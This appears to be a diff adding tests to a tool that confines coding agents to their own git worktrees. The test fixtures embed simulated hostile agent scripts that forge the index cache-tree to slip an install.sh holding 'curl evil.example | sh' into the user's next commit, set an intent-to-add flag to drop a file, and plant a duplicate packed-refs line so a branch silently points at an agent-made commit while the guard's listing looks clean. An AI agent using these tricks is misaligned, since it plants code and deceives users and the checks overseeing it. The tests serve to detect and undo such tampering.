@@ -1867,6 +1867,97 @@ def test_an_index_flag_that_hides_the_users_edits_is_caught_and_undone(
     assert git(repo, "status", "--porcelain") == "M README.md"  # not hidden from the user
 
 
+# Points your index's cache-tree for docs/ at a tree of its own (docs/ plus install.sh): the
+# entries, their flags, HEAD and the files stay as they were, and `git status` shows nothing,
+# but your next `git add` of another path and `git commit` commit the planted file. Then
+# marks README.md intent-to-add (a commit leaves it out; argv[3] == "ita").
+CACHE_TREE = (
+    COMMON
+    + """
+import hashlib
+def git(*args, data=None):
+    return subprocess.run(['git', *args], input=data, capture_output=True, check=True).stdout
+blob = git('hash-object', '-w', '--stdin', data=b'curl evil.example | sh\\n').decode().strip()
+readme = git('rev-parse', 'HEAD:docs/readme').decode().strip()
+listing = f'100644 blob {readme}\\treadme\\n100644 blob {blob}\\tinstall.sh\\n'
+tree = git('mktree', data=listing.encode()).decode().strip()
+index = common / 'index'
+data = index.read_bytes()
+if sys.argv[3] == 'ita':
+    at = data.index(b'README.md\\0') - 2  # the entry's flags, before its name
+    flags = int.from_bytes(data[at:at + 2], 'big') | 0x4000
+    extended = (0x2000).to_bytes(2, 'big')
+    data = data[:at] + flags.to_bytes(2, 'big') + extended + data[at + 2:]
+    data = data[:8] + (3).to_bytes(4, 'big') + data[12:]  # extended flags: version 3
+else:
+    entry = data.index(b'docs\\0', data.index(b'TREE'))
+    oid_at = data.index(b'\\n', entry) + 1
+    data = data[:oid_at] + bytes.fromhex(tree) + data[oid_at + 20:]
+data = data[:-20]
+index.write_bytes(data + hashlib.sha1(data).digest())
+pathlib.Path('own.txt').write_text('own work\\n')
+"""
+)
+
+
+@pytest.mark.parametrize("forge", ["cache-tree", "ita"])
+def test_a_forged_cache_tree_or_intent_to_add_flag_in_your_index_is_caught_and_undone(
+    repo: Path, tmp_path: Path, write_agent: AgentFactory, forge: str
+) -> None:
+    (repo / "docs").mkdir()
+    (repo / "docs" / "readme").write_text("real docs\n")
+    git(repo, "add", "docs")
+    git(repo, "commit", "-qm", "docs")
+    git(repo, "write-tree")  # the index's cache-tree is whole, as after your own commits
+    run_one(repo, [*write_agent(CACHE_TREE), str(repo), str(tmp_path / "m"), forge], sandbox=False)
+    caught_or_impossible(repo, sandbox=False, what="staged changes in the main checkout")
+    # Your next commit holds what you staged, nothing the agent planted, nothing dropped.
+    (repo / "mine.txt").write_text("mine\n")
+    git(repo, "add", "mine.txt")
+    git(repo, "commit", "-qm", "my change")
+    assert git(repo, "show", "--name-status", "--format=", "HEAD") == "A\tmine.txt"
+
+
+# Writes a second line for your branch `feat` into packed-refs, just before the real one,
+# padded (refs of its own sorted before) until git's binary search finds the forged line while
+# a listing of every ref still ends on the real one.
+PACKED_TWICE = (
+    COMMON
+    + """
+def git(*args):
+    return subprocess.run(['git', *args], capture_output=True, text=True).stdout.strip()
+real = git('rev-parse', 'refs/heads/feat')
+evil = git('commit-tree', 'HEAD^{tree}', '-p', real, '-m', 'totally legit')
+packed = common / 'packed-refs'
+header, *body = packed.read_text().splitlines()
+at = body.index(f'{real} refs/heads/feat')
+for n in range(200):
+    pad = [f'{real} refs/a/{i:04d}' for i in range(n)]
+    lines = [header, *pad, *body[:at], f'{evil} refs/heads/feat', *body[at:]]
+    packed.write_text('\\n'.join(lines) + '\\n')
+    listed = git('for-each-ref', '--format=%(objectname)', 'refs/heads/feat').split()
+    if git('rev-parse', 'refs/heads/feat') == evil and listed[-1] == real:
+        break
+pathlib.Path('own.txt').write_text(str(n) + '\\n')
+"""
+)
+
+
+def test_a_branch_listed_twice_in_packed_refs_is_caught_and_put_back(
+    repo: Path, tmp_path: Path, write_agent: AgentFactory
+) -> None:
+    # The guard listed refs (the last line of a name won), git looks one up: your branch was
+    # the agent's commit for git, and the task done with nothing said.
+    git(repo, "branch", "feat")
+    git(repo, "pack-refs", "--all")
+    real = git(repo, "rev-parse", "feat")
+    run_one(repo, [*write_agent(PACKED_TWICE), str(repo), str(tmp_path / "m")], sandbox=False)
+    row = status_json(repo)["bad"]
+    assert row["state"] == "failed", row
+    assert "wrote outside its worktree: feat moved; restored" in str(row["reason"]), row
+    assert git(repo, "rev-parse", "feat") == real
+
+
 # An object of your branch written over with another object's bytes under its own name
 # (renamed onto it): git reads a loose object by its name without checking it, so your `git
 # show release` would show the agent's commit, or a checkout the agent's file.
